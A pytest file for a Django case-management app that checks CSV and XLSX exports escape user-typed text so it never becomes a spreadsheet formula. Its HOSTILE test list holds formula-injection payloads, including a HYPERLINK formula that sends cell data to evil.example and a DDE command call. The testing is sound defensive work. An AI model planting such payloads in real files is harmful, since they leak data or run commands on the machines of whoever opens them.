"""No text a user typed becomes a formula in any file the system writes (thads.sheets): the case
list's CSV, the period report's XLSX, the import templates, the targets template and the report
command's CSV, each written with hostile names and read back as a spreadsheet would."""

import csv
import io
from datetime import date as D

import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from cases.models import Agency, User
from reports import period_report, summaries, xlsx
from reports.calendar import Period
from tests import factories
from thads import sheets

# What a spreadsheet would run: a formula, a formula after a tab or a line end, a DDE call.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "＝1+1"]


def starts_a_formula(text: str) -> bool:
    return text.startswith(sheets.FORMULA_STARTS)


def csv_cells(text: str, delimiter: str):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter) for cell in row]


def assert_csv_holds_no_formula(text: str, delimiter=";"):
    cells = csv_cells(text, delimiter)
    assert cells and not [cell for cell in cells if starts_a_formula(cell)]


def assert_xlsx_holds_no_formula(content: bytes):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and starts_a_formula(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)


@given(st.text(max_size=30))
def test_a_csv_cell_never_starts_a_formula(text):
    out = io.StringIO()
    sheets.csv_writer(out, delimiter=";").writerow([text, 5, -3])
    cells = next(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=";"))
    assert not starts_a_formula(cells[0])
    assert cells[0] in (text, "'" + text)
    assert cells[1:] == ["5", "-3"]  # numbers stay numbers, negative ones too


@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs")), max_size=30))
def test_an_xlsx_text_cell_is_text(text):
    book = Workbook()
    book.active.append([text, 7])
    sheets.xlsx_text_only(book)
    out = io.BytesIO()
    book.save(out)
    cell, number = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(values_only=False))
    assert cell.data_type != "f" and (cell.value or "") == text
    assert number.value == 7


@pytest.fixture
def hostile(tree):
    """Names of a unit, an officer and the parties as hostile as a user could type them."""
    Agency.objects.filter(pk=tree.unit1.pk).update(name=HOSTILE[0], short_name=HOSTILE[0])
    officer = factories.OfficerFactory(agency=tree.unit1, full_name=HOSTILE[3])
    summaries.fill_year(2026)
    for i, name in enumerate(HOSTILE):
        factories.case(tree.unit1, officer=officer, debtor_name=name, creditor_name=HOSTILE[-1 - i],
                       decision_date=D(2025, 11, 3))
    return officer


@pytest.mark.django_db
def test_the_case_lists_csv(client, tree, make_user, hostile):
    client.force_login(make_user(tree.province))
    text = b"".join(client.get(reverse("case_export")).streaming_content).decode("utf-8")
    assert_csv_holds_no_formula(text)
    assert "'" + HOSTILE[0] in csv_cells(text, ";")  # the name kept whole, behind the apostrophe


@pytest.mark.django_db
@pytest.mark.parametrize("by", ["child", "officer"])
def test_the_period_reports_xlsx(tree, hostile, by):
    agency = tree.province if by == "child" else tree.unit1
    content = xlsx.build(period_report.collect(agency, Period(2026, 12), by=by, today=D(2026, 11, 22)))
    assert_xlsx_holds_no_formula(content)
    values = [cell for sheet in load_workbook(io.BytesIO(content)).worksheets
              for row in sheet.iter_rows(values_only=True) for cell in row]
    assert (HOSTILE[0] if by == "child" else HOSTILE[3]) in values  # the name, as typed, as text


@pytest.mark.django_db
def test_the_templates(client, tree, make_user):
    Agency.objects.filter(pk=tree.unit1.pk).update(code="=1+1")  # codes come from the agency tree
    client.force_login(make_user(tree.province, User.Role.ADMINISTRATOR))
    for what in ("cases", "events"):
        assert_csv_holds_no_formula(client.get(reverse("case_import_template", args=[what, "csv"])).content.decode())
        assert_xlsx_holds_no_formula(client.get(reverse("case_import_template", args=[what, "xlsx"])).content)
    targets = client.get(reverse("targets_template")).content.decode()
    assert_csv_holds_no_formula(targets)
    assert "'=1+1" in csv_cells(targets, ";")


@pytest.mark.django_db
def test_the_report_commands_csv(tree, hostile):
    out = io.StringIO()
    call_command("thads_report", "--agency", tree.province.code, "--year", "2026", "--months", "12",
                 "--format", "csv", "--by", "child", stdout=out)
    assert_csv_holds_no_formula(out.getvalue(), delimiter=",")
    assert "'" + HOSTILE[0] in csv_cells(out.getvalue(), ",")


def test_a_cell_holding_the_other_separator_stays_one_cell():
    """Every cell between quotes: "A,=1+2" in a file of semicolons, opened by a spreadsheet that
    splits on commas, stays one cell and starts no formula."""
    out = io.StringIO()
    sheets.csv_writer(out, delimiter=";").writerow(["A,=1+2", "B;@SUM(1)", 7])
    for delimiter in (",", ";"):
        assert not [cell for cell in csv_cells(out.getvalue(), delimiter) if starts_a_formula(cell.strip('"'))]
